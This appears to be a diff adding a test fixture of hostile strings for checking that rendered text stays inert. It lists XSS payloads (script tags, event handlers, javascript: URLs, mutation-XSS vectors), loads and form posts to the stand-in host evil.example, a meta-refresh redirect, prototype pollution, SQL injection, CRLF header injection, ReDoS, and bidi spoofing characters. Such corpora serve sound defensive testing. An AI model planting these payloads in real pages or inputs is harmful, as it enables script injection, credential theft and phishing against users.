@@ -1,0 +1,85 @@
+/** Texts that try to run, to break out of where they stand, to hide or to turn what is around them, or to burst the page. */
+const RUN = "window.__ran=(window.__ran||0)+1";
+
+const markup = [
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="https://evil.example/pixel.gif">`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="data:text/html,<script>${RUN}</script>">`,
+  `<a href="javascript:${RUN}">click</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
+  `<form action="https://evil.example"><input name=key><button>Open</button></form>`,
+  `<body onload="${RUN}">`,
+  `<details open ontoggle="${RUN}">`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<marquee onstart="${RUN}">`,
+  `<style>*{display:none!important}</style>`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
+  `<base href="https://evil.example/">`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><script>${RUN}</script>`,
+  `<div style="position:fixed;inset:0;background:red">over everything</div>`,
+  `<dialog open>Enter your key</dialog>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+];
+
+const quoting = [
+  `" onmouseover="${RUN}" x="`,
+  `' onfocus='${RUN}' autofocus='`,
+  "`${" + RUN + "}`",
+  `{{constructor.constructor('${RUN}')()}}`,
+  `"};${RUN};//`,
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}//%0aalert(1)`,
+  "[m:x](javascript:alert(1)) [m:<img src=x onerror=alert(1)>]",
+  "__proto__",
+  "constructor",
+  `{"__proto__":{"polluted":true}}`,
+  "'; DROP TABLE core; --",
+  "%00%0d%0aSet-Cookie: sextet_session=x",
+  "$& $1 $` $' \\0 \\1",
+  "(((((((((((((((((((((((a+)+)+)+$",
+];
+
+const characters = [
+  `before ${String.fromCharCode(...Array.from({ length: 31 }, (_, i) => i + 1))} after`,
+  "\u0007\u0008\u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
+  "\u202egnp.elif\u202c is not what it seems",
+  "\u2067\u2066\u202a\u202b\u202d\u202e never closed",
+  "\u2069\u2069\u202c\u202c closed without being opened",
+  "\u200f\u05d0\u05d1\u05d2 (\u0627\u0644\u0639\u0631\u0628\u064a\u0629) 123 - 456",
+  "\u0627\u0644\u0645\u0633\u062a\u062e\u062f\u0645 \u064a\u0639\u064a\u0634 \u0641\u064a \u0644\u0634\u0628\u0648\u0646\u0629",
+  `Z${"\u0351\u0352\u0353\u0354\u0355".repeat(60)}algo`,
+  "\u200b\u200c\u200d\u2060\ufeff invisible \u00ad\u180e\u3164",
+  "\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66\ud83c\uddf5\ud83c\uddf9\ud83c\udff4\u200d\u2620\ufe0f",
+  "\u2028line\u2029paragraph\u0085next",
+  "\ufdfd\ufdfd\ufdfd \ud809\udc2b\ud809\udc2b \ua9c5\ua9c5",
+  "a\n\n\n\n\nb\t\t\tc\r\nd",
+  "\u{e0041}\u{e0042}\u{e0043} tags",
+];
+
+const sizes = [
+  "W".repeat(100_000),
+  "\ud83d\ude00".repeat(20_000),
+  "\u0644".repeat(50_000),
+  "word ".repeat(5_000),
+  "<b>".repeat(10_000),
+];
+
+export const HOSTILE: readonly string[] = [...markup, ...quoting, ...characters, ...sizes];
